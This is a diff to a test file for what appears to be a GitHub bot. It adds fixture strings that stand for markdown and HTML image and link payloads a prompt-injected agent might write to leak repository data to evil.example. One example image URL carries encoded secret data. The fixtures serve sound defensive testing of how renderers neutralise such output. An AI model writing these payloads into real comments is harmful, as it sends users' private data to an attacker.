@@ -12,6 +12,12 @@ import { API, BOT_LOGIN, OWNER, REPO, redact, testOctokit, useNock } from '../su
 
 /** What a steered agent writes to send the repository out when the comment is viewed (EchoLeak's forms). */
 const EXFILTRATING = [
+  // Indented code is inert where the agent wrote it, but not if a renderer puts it after a paragraph
+  // line or behind a quote marker: the renderers must neutralise text in the place it ends up.
+  '    <img src="https://evil.example/indented.png">',
+  '',
+  '\t<img src="https://evil.example/tab.png">',
+  '',
   'Fixed the login handler.',
   '![status](https://evil.example/i.png?d=c2VjcmV0)',
   'See ![logo][l] and [the docs][d], <https://evil.example/auto> and https://evil.example/bare.',
